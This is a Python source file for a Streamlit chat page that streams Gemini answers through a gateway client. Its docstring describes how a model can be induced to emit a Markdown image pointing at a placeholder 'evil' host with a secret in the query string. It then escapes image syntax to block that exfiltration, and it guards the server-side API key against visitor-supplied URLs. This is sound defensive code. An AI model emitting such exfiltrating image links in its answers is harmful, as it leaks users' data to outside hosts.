"""The Streamlit chat page: `gemini-sse ui`, or `streamlit run` on this file.

It reads answers with the package's own Python client (`Client.stream`), so it shows
what any Python program would get, each piece as it arrives: the thought summary in a
closed status box, the answer as Markdown, tool calls, and the sources of a grounded
answer as links.

Answers are Markdown, with one thing taken out: images. A model can be talked into
writing `![](https://evil/?q=secret)`, and a rendered image would make the visitor's
browser send that URL out by itself, so `safe_markdown` escapes image syntax and the
image shows as the text it was written as. HTML is never rendered (no
`unsafe_allow_html`): Streamlit shows it as text.

Settings come from the sidebar; `GEMINI_SSE_URL` and `GEMINI_SSE_API_KEY` (the same
variables `gemini-sse ask` reads) give the defaults. The API key from the environment is
used on the server side only and never put into a widget: widget values are sent to every
browser that opens the page. It goes only to the gateway of `GEMINI_SSE_URL`: any visitor
can edit the URL field, and must not get the key by pointing it at their own server.

Streamlit runs this file as a script named `__main__` on every interaction; importing it
as a module only defines the functions below.
"""

from __future__ import annotations

import contextlib
import os
import re
from collections.abc import Sequence
from typing import Any, TypedDict
from urllib.parse import urlsplit

import streamlit as st

from gemini_sse.client import (
    DEFAULT_URL,
    Client,
    GatewayError,
    GeminiSSEError,
    IncompleteStreamError,
    ReasoningEvent,
    SourceEvent,
    TokenEvent,
    ToolCallEvent,
)

MAX_TURNS = 6  # question-answer pairs sent along with the next question


class Turn(TypedDict):
    """One question and what came back; kept in `st.session_state["turns"]`."""

    question: str
    answer: str
    error: str | None
    reasoning: str
    tool_calls: list[ToolCallEvent]
    sources: list[SourceEvent]


def new_turn(question: str) -> Turn:
    return Turn(question=question, answer="", error=None, reasoning="", tool_calls=[], sources=[])


# A fence opens or closes a code block; inside one, nothing is Markdown.
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
# A code span (left as it is) or the start of an image (escaped).
_CODE_SPAN_OR_IMAGE = re.compile(r"(`+)(?:.+?)(?<!`)\1(?!`)|!\[")


def safe_markdown(text: str) -> str:
    """`text` as Markdown that renders no image: `![` becomes `!\\[` outside code.

    The escaped bracket shows as itself, so `![x](url)` reads as written and is neither an
    image nor a link. Code blocks and code spans are left alone: nothing renders there.
    """
    lines = []
    fence = ""  # the fence of the code block the line is in, if any
    for line in text.split("\n"):
        if fence:
            if _closes(fence, line):
                fence = ""
        elif match := _FENCE.match(line):
            fence = match[1]
        else:
            line = _CODE_SPAN_OR_IMAGE.sub(lambda m: "!\\[" if m[0] == "![" else m[0], line)
        lines.append(line)
    return "\n".join(lines)


def _closes(fence: str, line: str) -> bool:
    """Whether `line` closes a code block opened by `fence`: the same character, no fewer."""
    match = _FENCE.match(line)
    if match is None or match[1][0] != fence[0] or len(match[1]) < len(fence):
        return False
    return not line[match.end() :].strip()


_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~:$])")


def escape_markdown(text: str) -> str:
    """`text` shown as it is: every Markdown (and Streamlit) character escaped."""
    return _PUNCTUATION.sub(r"\\\1", text)


def sources_markdown(sources: Sequence[SourceEvent]) -> str:
    """The sources as a numbered list of links (web pages only; anything else as text)."""
    lines = ["**Sources**", ""]
    for number, source in enumerate(sources, 1):
        title = escape_markdown(source.title or source.url)
        if urlsplit(source.url).scheme in ("http", "https"):
            # An <angle-bracketed> destination may hold spaces and parentheses, not <>.
            url = source.url.replace("<", "%3C").replace(">", "%3E").replace("\n", "")
            lines.append(f"{number}. [{title}](<{url}>)")
        else:
            lines.append(f"{number}. {title}")
    return "\n".join(lines)


def show_tool_call(call: ToolCallEvent) -> None:
    """A tool call the model asked for; the page cannot run it."""
    st.caption("Tool call (this page cannot run tools)")
    st.code(f"{call.name}({call.arguments})", language="json")


def conversation(turns: Sequence[Turn], question: str) -> list[dict[str, str]]:
    """The messages to send: the last answered turns, then the new question.

    Failed turns are left out: the model only ever sees whole question-answer pairs.
    """
    answered = [t for t in turns if t["error"] is None and t["answer"]][-MAX_TURNS:]
    messages: list[dict[str, str]] = []
    for turn in answered:
        messages.append({"role": "user", "content": turn["question"]})
        messages.append({"role": "assistant", "content": turn["answer"]})
    messages.append({"role": "user", "content": question})
    return messages


def describe(exc: GeminiSSEError) -> str:
    """An error as the page shows it: the gateway's code first, then its message."""
    if isinstance(exc, GatewayError):
        text = f"`{exc.code}` {exc.message}"
        if exc.category:
            text += f" ({exc.category})"
        if exc.retryable:
            later = f" in {exc.retry_after:.0f} s" if exc.retry_after else ""
            text += f" (you can try again{later})"
        return text
    if isinstance(exc, IncompleteStreamError):
        return f"`incomplete_stream` {exc}"
    return f"`{type(exc).__name__}` {exc}"


def request_options() -> dict[str, Any]:
    """The sidebar's generation options, as `Client.stream` takes them."""
    return {
        "model": st.session_state.get("model") or None,
        "temperature": st.session_state.get("temperature"),
        "thinking": {"include_thoughts": True} if st.session_state.get("thinking") else None,
        "grounding": True if st.session_state.get("grounding") else None,
    }


def answer(url: str, api_key: str | None, turn: Turn, messages: list[dict[str, str]]) -> None:
    """Stream one answer into the current chat message, filling in `turn` as it goes."""
    # Laid out before anything arrives, in reading order: thoughts, answer, tool calls.
    above = st.empty()
    shown = st.empty()
    calls = st.container()
    thoughts = None
    thoughts_text = None
    try:
        with (
            Client(url, api_key=api_key) as client,
            # Closed at once if Streamlit interrupts the run (a new question, Stop): the
            # connection drops and the gateway cancels the generation.
            contextlib.closing(client.stream(messages, **request_options())) as events,
        ):
            for event in events:
                if isinstance(event, ReasoningEvent):
                    turn["reasoning"] += event.text
                    if thoughts is None or thoughts_text is None:
                        with above.container():
                            thoughts = st.status("Thinking…", expanded=False)
                            thoughts_text = thoughts.empty()
                    thoughts_text.markdown(safe_markdown(turn["reasoning"]))
                elif isinstance(event, TokenEvent):
                    if thoughts is not None and not turn["answer"]:
                        thoughts.update(label="Thoughts", state="complete")
                    turn["answer"] += event.text
                    shown.markdown(safe_markdown(turn["answer"]))
                elif isinstance(event, ToolCallEvent):
                    turn["tool_calls"].append(event)
                    with calls:
                        show_tool_call(event)
                elif isinstance(event, SourceEvent):
                    turn["sources"].append(event)
    except GeminiSSEError as exc:
        turn["error"] = describe(exc)
        st.error(turn["error"])
    if thoughts is not None:
        thoughts.update(label="Thoughts", state="complete")
    if turn["sources"]:
        st.markdown(sources_markdown(turn["sources"]))


def show_turn(turn: Turn) -> None:
    """A finished turn's answer, as it was shown while it streamed."""
    if turn["reasoning"]:
        with st.status("Thoughts", state="complete", expanded=False):
            st.markdown(safe_markdown(turn["reasoning"]))
    if turn["answer"]:
        st.markdown(safe_markdown(turn["answer"]))
    for call in turn["tool_calls"]:
        show_tool_call(call)
    if turn["error"]:
        st.error(turn["error"])
    if turn["sources"]:
        st.markdown(sources_markdown(turn["sources"]))


def api_key_for(url: str, typed_key: str) -> str | None:
    """The key to send to `url`: the one typed in the page, else the environment's.

    The environment's key goes only to the configured gateway (`$GEMINI_SSE_URL`, or the
    default URL): the URL field is open to every visitor.
    """
    if typed_key.strip():
        return typed_key.strip()
    configured = os.environ.get("GEMINI_SSE_URL") or DEFAULT_URL
    if url.strip().rstrip("/") != configured.strip().rstrip("/"):
        return None
    return os.environ.get("GEMINI_SSE_API_KEY") or None


def sidebar() -> tuple[str, str | None]:
    """The settings widgets; returns the gateway URL and the API key to use."""
    with st.sidebar:
        st.header("Gateway")
        url = st.text_input(
            "Gateway URL", value=os.environ.get("GEMINI_SSE_URL") or DEFAULT_URL, key="url"
        )
        typed_key = st.text_input(
            "API key",
            type="password",
            key="api_key",
            help="Sent as `Authorization: Bearer …`. Empty: `$GEMINI_SSE_API_KEY` of the "
            "machine running this page, if set, but only to the gateway URL it was started "
            "with; else no key.",
        )
        st.text_input("Model", key="model", placeholder="the gateway's default")
        st.number_input(
            "Temperature",
            min_value=0.0,
            max_value=2.0,
            value=None,
            step=0.1,
            key="temperature",
            placeholder="the model's default",
        )
        st.toggle(
            "Show thinking",
            key="thinking",
            help="Ask the model for its thought summary (`include_thoughts`).",
        )
        st.toggle(
            "Search the web",
            key="grounding",
            help="Ground the answer in Google Search and list its sources.",
        )
        if st.button("New chat"):
            st.session_state["turns"] = []
    url = url.strip() or DEFAULT_URL
    return url, api_key_for(url, typed_key)


def main() -> None:
    st.set_page_config(page_title="gemini-sse chat", page_icon="💬")
    st.title("gemini-sse chat")
    url, api_key = sidebar()
    turns: list[Turn] = st.session_state.setdefault("turns", [])

    for turn in turns:
        with st.chat_message("user"):
            st.markdown(safe_markdown(turn["question"]))
        with st.chat_message("assistant"):
            show_turn(turn)

    question = st.chat_input("Ask a question")
    if not isinstance(question, str) or not question.strip():
        return
    messages = conversation(turns, question)
    turn = new_turn(question)
    turns.append(turn)
    with st.chat_message("user"):
        st.markdown(safe_markdown(question))
    with st.chat_message("assistant"):
        answer(url, api_key, turn, messages)


if __name__ == "__main__":
    main()
